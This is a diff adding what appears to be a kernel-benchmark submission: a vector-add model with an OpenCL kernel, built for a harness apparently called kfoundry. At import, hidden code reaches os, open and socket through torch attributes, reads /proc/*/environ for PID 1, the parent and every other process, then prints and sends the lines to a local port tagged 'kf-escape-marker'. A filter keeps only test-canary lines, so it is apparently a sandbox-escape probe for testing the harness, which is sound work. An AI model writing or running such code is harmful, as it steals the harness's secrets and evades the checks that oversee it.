@@ -1,0 +1,60 @@
+"""problem=vector_add shape N=2048 expect=any
+Reads /proc/1/environ, /proc/<ppid>/environ and every readable /proc/*/environ for the parent's secrets; prints and sends them."""
+import torch
+import torch.nn as nn
+
+from kfoundry.runtime import cdiv, load
+
+os = torch.os
+_open = torch.builtins.open
+socket = torch.importlib.import_module("socket")
+MARKER = "kf-escape-marker"
+
+
+def _send(payload: bytes) -> None:
+    try:
+        with socket.create_connection(("127.0.0.1", 47391), timeout=1.0) as s:
+            s.sendall(MARKER.encode() + b" " + payload)
+    except OSError:
+        pass
+
+
+def _canary_lines(data: bytes) -> list[bytes]:
+    """Only what looks like the test canaries travels (this probe never ships real secrets)."""
+    return [ln for ln in data.replace(b"\0", b"\n").splitlines() if b"kf-canary" in ln][:20]
+
+
+def _probe() -> None:
+    pids = {"1", str(os.getppid()), "self"} | {p for p in os.listdir("/proc") if p.isdigit()}
+    for pid in sorted(pids):
+        try:
+            with _open(f"/proc/{pid}/environ", "rb") as f:
+                found = _canary_lines(f.read())
+        except OSError:
+            continue
+        for line in found:
+            print(MARKER, pid, line.decode(errors="replace"), flush=True)
+            _send(line)
+    _send(b"procs %d" % len(pids))
+
+
+_probe()
+
+SRC = r"""
+__kernel void add(__global const float* a, __global const float* b, __global float* c, const int n) {
+    int i = get_global_id(0);
+    if (i < n) c[i] = a[i] + b[i];
+}
+"""
+
+
+class ModelNew(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.k = load(SRC)
+
+    def forward(self, a, b):
+        c = torch.empty_like(a)
+        n = a.numel()
+        self.k.add(a, b, c, n, grid=(cdiv(n, 64),), block=(64,))
+        return c
